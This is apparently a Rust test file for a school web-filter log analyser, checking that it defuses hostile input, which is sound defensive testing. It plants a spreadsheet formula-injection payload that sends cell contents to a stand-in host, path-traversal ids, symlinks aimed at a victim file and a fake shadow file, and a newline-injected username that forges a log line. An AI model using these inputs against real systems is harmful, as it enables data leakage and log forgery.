//! Log text written by a pupil must never become a live formula in a spreadsheet the DSL opens:
//! a pupil who searches for `=HYPERLINK(...)` over and over gets a repeated-attempts finding, and
//! every CSV that carries the search (`repeats --format csv`, the weekly `findings.csv` and
//! `incident-log.csv`) holds it defused with a leading `'`.

use std::path::Path;
use std::process::{Command, Output};

/// A school whose pupils' usernames start with their two-digit intake year.
const PUPIL_PROFILE: &str = "id = \"riverside\"\n[[role_rules]]\npattern = '^\\d{2}[a-z]+$'\nrole = \"pupil\"\n";

/// The arguments of `report` for the week of the planted searches (2026-W43).
fn report_args<'a>(data: &'a str, config: &'a str, out: &'a str) -> [&'a str; 9] {
    ["report", "--data", data, "--config", config, "--week", "2026-W43", "--out", out]
}

fn filterwatch(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_filterwatch")).args(args).output().expect("runs")
}

/// Twelve blocked Google searches in eleven minutes by one pupil, on Wednesday 21 October 2026
/// from 10:00 BST, in Squid's native format.
fn formula_searches(dir: &Path) -> String {
    let query = "%3DHYPERLINK(%22http%3A%2F%2Fx%2F%3F%22%26B2%2C%22free+vpn%22)";
    let start = 1_792_573_200u64;
    let log: String = (0..12)
        .map(|i| {
            format!(
                "{}.000      0 10.1.2.3 TCP_DENIED/403 3500 GET https://www.google.com/search?q={query} 09jbloggs HIER_NONE/- text/html\n",
                start + i * 60
            )
        })
        .collect();
    let path = dir.join("access.log");
    std::fs::write(&path, log).unwrap();
    path.display().to_string()
}

fn assert_no_live_formula(csv_text: &str, what: &str) {
    assert!(csv_text.contains("HYPERLINK"), "{what} carries the search: {csv_text}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{what}: live formula in cell {cell:?}");
            if cell.contains("HYPERLINK") {
                assert!(!cell.starts_with("=HYPERLINK"), "{what}: {cell:?}");
            }
        }
    }
}

#[test]
fn a_typed_formula_reaches_every_csv_defused() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("school.toml");
    std::fs::write(&config, PUPIL_PROFILE).unwrap();
    let data = dir.path().join("data");
    let (config, data_arg) = (config.display().to_string(), data.display().to_string());
    let log = formula_searches(dir.path());
    let out = filterwatch(&["ingest", "-q", "--config", &config, "--data", &data_arg, &log]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));

    let out = filterwatch(&["repeats", "--data", &data_arg, "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"free vpn\"\")"), "defused, not dropped: {text}");
    assert_no_live_formula(&text, "repeats --format csv");

    let reports = dir.path().join("report");
    let out = filterwatch(&report_args(&data_arg, &config, reports.to_str().unwrap()));
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    for name in ["findings.csv", "incident-log.csv"] {
        let text = std::fs::read_to_string(reports.join(name)).unwrap();
        assert_no_live_formula(&text, name);
    }
}

// ---- Nothing outside DATA is touched (issue 10 item 3) ----

/// A school folder with one ingested day of Squid lines for `riverside`.
struct Dataset {
    dir: tempfile::TempDir,
}

impl Dataset {
    fn ingested() -> Dataset {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("school.toml"), PUPIL_PROFILE).unwrap();
        let log = formula_searches(dir.path());
        let data = Dataset { dir };
        let out = data.run(&["ingest", "-q", "--config", &data.arg("school.toml"), "--data", &data.arg("data"), &log]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        data
    }

    fn arg(&self, relative: &str) -> String {
        self.dir.path().join(relative).display().to_string()
    }

    fn run(&self, args: &[&str]) -> Output {
        filterwatch(args)
    }
}

#[test]
fn prune_and_export_refuse_ids_and_folders_that_reach_outside_the_dataset() {
    let data = Dataset::ingested();
    let canary = data.dir.path().join("x");
    std::fs::create_dir_all(canary.join("keep")).unwrap();
    std::fs::write(canary.join("keep/file"), "precious").unwrap();
    for school in ["../../x", "../x", "..", "/tmp", "nosuchschool"] {
        let out = data.run(&["prune", "--data", &data.arg("data"), "--older-than", "1d", "--school", school]);
        assert_eq!(out.status.code(), Some(2), "--school {school}: {}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(canary.join("keep/file").exists() && data.dir.path().join("data/.lock").exists());

    // Another school's alerts of the same day stay when one school is pruned.
    std::fs::create_dir_all(data.dir.path().join("data/alerts")).unwrap();
    let day = data.dir.path().join("data/alerts/2020-01-06.json");
    std::fs::write(&day, r#"[{"school":"riverside","spikes":[]},{"school":"hillview","spikes":[]}]"#).unwrap();
    let out = data.run(&["prune", "--data", &data.arg("data"), "--older-than", "30d", "--school", "riverside"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let left: Vec<serde_json::Value> = serde_json::from_slice(&std::fs::read(&day).unwrap()).unwrap();
    assert_eq!(left.len(), 1);
    assert_eq!(left[0]["school"], "hillview");

    // An export into the dataset would overwrite the school's own events.
    let key = data.dir.path().join("la.key");
    std::fs::write(&key, "0123456789abcdef0123456789abcdef\n").unwrap();
    set_mode(&key, 0o600);
    for out_dir in ["data", "data/events"] {
        let out = data.run(&[
            "export",
            "--data",
            &data.arg("data"),
            "--out",
            &data.arg(out_dir),
            "--pseudonymise",
            "--key-file",
            key.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "--out {out_dir}: {}", String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn report_never_writes_through_a_planted_link() {
    let data = Dataset::ingested();
    let victim = data.dir.path().join("victim.txt");
    std::fs::write(&victim, "untouched").unwrap();
    let out_dir = data.dir.path().join("report");
    std::fs::create_dir_all(out_dir.join("charts")).unwrap();
    let names = ["report.pdf", "findings.csv", "incident-log.csv"];
    for name in names {
        let stem = name.rsplit_once('.').unwrap().0;
        std::os::unix::fs::symlink(&victim, out_dir.join(format!("{stem}.partial"))).unwrap();
    }
    std::os::unix::fs::symlink(&victim, out_dir.join("findings.csv")).unwrap();
    let out = data.run(&report_args(&data.arg("data"), &data.arg("school.toml"), out_dir.to_str().unwrap()));
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "untouched");
    assert!(!std::fs::symlink_metadata(out_dir.join("findings.csv")).unwrap().file_type().is_symlink());
}

// ---- Personal data is private on disk (item 4) ----

fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Runs filterwatch under cron's usual umask 022.
fn filterwatch_with_umask_022(args: &[&str]) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg("umask 022; exec \"$@\"")
        .arg("sh")
        .arg(env!("CARGO_BIN_EXE_filterwatch"))
        .args(args)
        .output()
        .expect("runs")
}

fn assert_private_tree(root: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let mut pending = vec![root.to_path_buf()];
    let mut files = 0;
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let entry = entry.unwrap();
            let meta = entry.metadata().unwrap();
            let mode = meta.permissions().mode() & 0o777;
            assert_eq!(mode & 0o077, 0, "{} is mode {mode:o}", entry.path().display());
            if meta.is_dir() {
                pending.push(entry.path());
            } else {
                files += 1;
            }
        }
    }
    assert!(files > 0, "{} holds files", root.display());
}

#[test]
fn data_reports_and_rejects_are_private_under_umask_022_and_an_open_key_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("school.toml");
    std::fs::write(&config, PUPIL_PROFILE).unwrap();
    let log = formula_searches(dir.path());
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str("this line is not a request\n");
    std::fs::write(&log, text).unwrap();
    let (data, report) = (dir.path().join("data"), dir.path().join("report"));
    let (config, data_arg) = (config.display().to_string(), data.display().to_string());
    let out = filterwatch_with_umask_022(&["ingest", "-q", "--config", &config, "--data", &data_arg, &log]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(data.join("rejects").is_dir(), "the bad line made a rejects file");
    let out = filterwatch_with_umask_022(&report_args(&data_arg, &config, report.to_str().unwrap()));
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_private_tree(&data);
    assert_private_tree(&report);

    let key = dir.path().join("la.key");
    std::fs::write(&key, "0123456789abcdef0123456789abcdef\n").unwrap();
    set_mode(&key, 0o644);
    let export = dir.path().join("export");
    let args = ["export", "--data", &data_arg, "--out", export.to_str().unwrap(), "--pseudonymise", "--key-file"];
    let out = filterwatch(&[&args[..], &[key.to_str().unwrap()]].concat());
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("chmod 600"), "{}", String::from_utf8_lossy(&out.stderr));
    set_mode(&key, 0o600);
    let out = filterwatch(&[&args[..], &[key.to_str().unwrap()]].concat());
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}

// ---- Only regular files are read (item 5) ----

/// Runs filterwatch and fails the test if it has not finished within a minute.
fn filterwatch_within_a_minute(args: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_filterwatch"))
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > std::time::Duration::from_secs(60) {
            child.kill().unwrap();
            panic!("filterwatch {args:?} hung");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn links_out_of_the_log_folder_fifos_and_link_loops_are_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir_all(logs.join("squid")).unwrap();
    let secret = dir.path().join("shadow");
    std::fs::write(&secret, "root:$6$SECRETHASH:19000:0:99999:7:::\n").unwrap();
    std::os::unix::fs::symlink(&secret, logs.join("squid/evil.log")).unwrap();
    std::os::unix::fs::symlink(&logs, logs.join("squid/loop")).unwrap();
    std::os::unix::fs::symlink(&logs, logs.join("loop2")).unwrap();
    let fifo = logs.join("squid/pipe.log");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    std::fs::copy(formula_searches(dir.path()), logs.join("squid/access.log")).unwrap();
    let config = dir.path().join("school.toml");
    std::fs::write(&config, "id = \"riverside\"\nlogs = [\"logs/**/*.log\"]\n").unwrap();
    let data = dir.path().join("data");
    let (config, data_arg) = (config.display().to_string(), data.display().to_string());

    let out = filterwatch_within_a_minute(&["ingest", "-q", "--config", &config, "--data", &data_arg]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("evil.log: skipped") && stderr.contains("follow_links"), "{stderr}");
    assert!(stderr.contains("pipe.log: skipped"), "{stderr}");
    let manifest = std::fs::read_to_string(data.join("manifest.json")).unwrap();
    assert!(manifest.contains("access.log") && !manifest.contains("evil.log"), "{manifest}");
    for entry in walk_files(&data) {
        let bytes = std::fs::read(&entry).unwrap();
        assert!(!String::from_utf8_lossy(&bytes).contains("SECRETHASH"), "{} copies the secret", entry.display());
    }

    // Named on the command line, a FIFO is refused at once rather than waited on.
    let out = filterwatch_within_a_minute(&[
        "ingest",
        "-q",
        "--config",
        &config,
        "--data",
        &data_arg,
        fifo.to_str().unwrap(),
    ]);
    assert_ne!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a regular file"));
}

fn walk_files(root: &Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().map(Result::unwrap) {
            if entry.file_type().unwrap().is_dir() {
                pending.push(entry.path());
            } else {
                found.push(entry.path());
            }
        }
    }
    found
}

// ---- One log field cannot stop the week (item 6) ----

#[test]
fn a_control_byte_in_a_domain_or_username_forges_nothing_and_stops_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let start = 1_792_573_200u64;
    let mut log = String::new();
    for i in 0..12 {
        log.push_str(&format!(
            "{}.000      0 10.1.2.3 TCP_DENIED/403 3500 GET https://www.google.com/search?q=vpn+proxy 09jbloggs%0Afilterwatch:%20nothing%20to%20report HIER_NONE/- text/html\n",
            start + i * 60
        ));
    }
    for i in 0..12 {
        log.push_str(&format!(
            "{}.000      0 10.1.2.4 TCP_DENIED/403 3500 GET http://free\x07vpn\x1b.example/ 10asmith HIER_NONE/- text/html\n",
            start + 3600 + i * 60
        ));
    }
    std::fs::write(dir.path().join("access.log"), log).unwrap();
    std::fs::write(
        dir.path().join("school.toml"),
        "id = \"riverside\"\nlogs = [\"access.log\"]\n[[role_rules]]\npattern = '^\\d{2}'\nrole = \"pupil\"\n",
    )
    .unwrap();
    let data = dir.path().join("data");
    // Run from the school folder with a relative profile, as a technician would try it by hand.
    let out = Command::new(env!("CARGO_BIN_EXE_filterwatch"))
        .current_dir(dir.path())
        .args(["nightly", "--config", "school.toml", "--data", "data", "--today", "2026-10-26"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    for line in stdout.lines().chain(stderr.lines()) {
        assert!(!line.starts_with("filterwatch: nothing"), "a forged line in the cron mail: {line:?}");
        assert!(!line.contains('\x1b') && !line.contains('\x07'), "raw control bytes reach the terminal: {line:?}");
    }
    assert!(stdout.contains("weekly report"), "the Monday report was written: {stdout}");
    assert!(stdout.contains("09jbloggs\\nfilterwatch"), "the username is shown, its newline escaped: {stdout}");
    let reports = walk_files(&data.join("reports"));
    assert!(reports.iter().any(|p| p.extension().is_some_and(|e| e == "pdf")), "{reports:?}");
    for svg in reports.iter().filter(|p| p.extension().is_some_and(|e| e == "svg")) {
        let text = std::fs::read_to_string(svg).unwrap();
        assert!(!text.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\t' | '\r')), "{}", svg.display());
    }
}

// ---- Implausible times and limits (items 7 and 8) ----

/// Writes `profile` as `dir/school.toml` and ingests `log` into `dir/data`.
fn ingest_with_profile(dir: &Path, profile: &str, log: &str) -> Output {
    let config = dir.join("school.toml");
    std::fs::write(&config, profile).unwrap();
    let data = dir.join("data");
    filterwatch(&["ingest", "-q", "--config", config.to_str().unwrap(), "--data", data.to_str().unwrap(), log])
}

#[test]
fn lines_dated_1970_or_2100_are_rejected_with_a_reason() {
    let dir = tempfile::tempdir().unwrap();
    let log = formula_searches(dir.path());
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str(
        "0.000      0 10.1.2.3 TCP_MISS/200 100 GET http://old.example/ 09jbloggs HIER_DIRECT/1.2.3.4 text/html\n",
    );
    text.push_str(
        "4102444800.000      0 10.1.2.3 TCP_MISS/200 100 GET http://late.example/ 09jbloggs HIER_DIRECT/1.2.3.4 text/html\n",
    );
    std::fs::write(&log, text).unwrap();
    let data = dir.path().join("data");
    let out = ingest_with_profile(dir.path(), "id = \"riverside\"\n", &log);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let dates: Vec<String> = std::fs::read_dir(data.join("events/school=riverside"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(dates, vec!["date=2026-10-21".to_string()]);
    let rejects: String =
        walk_files(&data.join("rejects")).iter().map(|p| std::fs::read_to_string(p).unwrap()).collect();
    assert!(rejects.contains("reject_older_than_days") && rejects.contains("reject_future_hours"), "{rejects}");
}

#[test]
fn out_of_range_settings_name_their_key_and_bounds_and_never_panic() {
    let dir = tempfile::tempdir().unwrap();
    let log = formula_searches(dir.path());
    let data = dir.path().join("data");
    for (setting, key) in [
        ("retention_days = 4294967295", "retention_days"),
        ("[detect]\nspike_baseline_days = 4294967295", "detect.spike_baseline_days"),
        ("[detect]\nspike_min_score = nan", "detect.spike_min_score"),
        ("reject_older_than_days = 0", "reject_older_than_days"),
    ] {
        let config = dir.path().join("bad.toml");
        std::fs::write(&config, format!("id = \"riverside\"\nlogs = [\"access.log\"]\n{setting}\n")).unwrap();
        for command in ["ingest", "nightly"] {
            let mut args = vec![command, "--config", config.to_str().unwrap(), "--data", data.to_str().unwrap()];
            if command == "ingest" {
                args.push(&log);
            }
            let out = filterwatch(&args);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(2), "{command} with {setting}: {stderr}");
            assert!(stderr.contains(&format!("`{key}`")), "{command} names {key}: {stderr}");
        }
    }
    let out = filterwatch(&["prune", "--data", data.to_str().unwrap(), "--older-than", "99999999999d"]);
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_deep_source_path_and_a_file_of_junk_keep_a_bounded_rejects_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut deep = dir.path().to_path_buf();
    for i in 0..12 {
        deep = deep.join(format!("a-rather-long-folder-name-{i:02}"));
    }
    std::fs::create_dir_all(&deep).unwrap();
    let junk = deep.join("access.log");
    let line = "x".repeat(300);
    std::fs::write(&junk, format!("{line}\n").repeat(30_000)).unwrap();
    let data = dir.path().join("data");
    let out = ingest_with_profile(dir.path(), "id = \"riverside\"\nformat = \"squid\"\n", junk.to_str().unwrap());
    assert_ne!(out.status.code(), Some(101), "no panic: {}", String::from_utf8_lossy(&out.stderr));
    let rejects = walk_files(&data.join("rejects"));
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    let text = std::fs::read_to_string(&rejects[0]).unwrap();
    assert!(text.lines().count() <= 10_001, "{} lines kept", text.lines().count());
    assert!(text.contains("20000 more rejected lines not kept"), "the dropped ones are counted");
}
